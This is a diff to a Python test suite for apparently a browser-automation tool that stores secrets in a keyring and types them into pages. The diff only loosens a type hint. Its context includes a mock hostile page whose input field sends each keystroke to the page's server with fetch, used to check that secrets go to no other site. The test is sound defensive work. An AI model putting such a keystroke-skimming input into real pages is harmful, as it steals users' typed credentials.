@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 from urllib.parse import quote_plus
 
 import keyring
@@ -78,7 +79,7 @@ def test_a_secret_is_typed_into_its_page_and_no_command_shows_or_keeps_it(
 
 
 def test_a_secret_goes_nowhere_else_whatever_the_page_does(
-    room: Room, site: Site, other_site: Site, kept: dict[str, str]
+    room: Room, site: Site, other_site: Site, kept: dict[str, Any]
 ) -> None:
     room("secret", "set", "bank", "--origin", site.address, stdin=f"{VALUE}\n", environment=kept)
     evil = other_site.page("<label>Code <input oninput=\"fetch('/got?' + encodeURIComponent(this.value))\"></label>")
@@ -92,7 +93,7 @@ def test_a_secret_goes_nowhere_else_whatever_the_page_does(
 
 
 def test_a_locked_keyring_types_nothing_and_shows_nothing_of_a_page_with_a_secret(
-    room: Room, site: Site, kept: dict[str, str]
+    room: Room, site: Site, kept: dict[str, Any]
 ) -> None:
     room("secret", "set", "bank", "--origin", site.address, stdin=f"{VALUE}\n", environment=kept)
     typing = goal("browser.type", text="{{secret:bank}}", selector="label=Code")
